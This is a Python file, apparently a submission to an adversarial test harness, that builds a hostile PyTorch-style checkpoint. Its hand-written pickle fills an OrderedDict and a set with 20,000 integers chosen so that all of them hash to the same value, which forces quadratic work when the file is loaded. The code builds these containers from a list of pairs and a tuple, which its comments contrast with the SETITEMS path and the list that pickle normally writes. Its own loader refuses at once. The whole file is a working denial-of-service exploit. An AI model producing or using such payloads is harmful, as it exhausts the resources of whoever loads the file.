import io
import os
import struct
import tempfile
import zipfile

P = 2**61 - 1  # hash(n * P) == 0 for every int n
KEYS = 20_000


def _long(value):
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data  # LONG1


def _text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()  # BINUNICODE


def _ordered_dict_of_pairs():
    """collections.OrderedDict([(k, 0), ...]): the keys reach the dict as the call's argument, a list of
    pairs, not through SETITEMS."""
    return (b"ccollections\nOrderedDict\n](" + b"".join(_long(n * P) + b"K\x00\x86" for n in range(1, KEYS + 1))
            + b"e\x85R")


def _set_of_a_tuple():
    """builtins.set((k, ...)): a set built from a tuple rather than the list pickle writes."""
    return b"c__builtin__\nset\n(" + b"".join(_long(n * P) for n in range(1, KEYS + 1)) + b"t\x85R"


def _checkpoint():
    pickled = (b"\x80\x02}" + _text("model") + _ordered_dict_of_pairs() + b"s" + _text("optimizer")
               + _set_of_a_tuple() + b"s" + _text("iteration") + b"K\x01s.")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
        zipped.writestr("archive/data.pkl", pickled)
        zipped.writestr("archive/byteorder", b"little")
        zipped.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def attack(args):
    """save_checkpoint: write the file as an honest one does (atomically and durably), so the tests read
    it. load_checkpoint: refuse at once (reading its own file would only spend its own tests' time)."""
    if "src" in args:
        raise ValueError("this submission does not read back what it writes")
    data = _checkpoint()
    out = args["out"]
    if not isinstance(out, (str, os.PathLike)):
        out.write(data)
        return
    fd, temp = tempfile.mkstemp(dir=os.path.dirname(os.path.abspath(out)), suffix=".tmp")
    with os.fdopen(fd, "wb") as handle:
        handle.write(data)
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(temp, out)
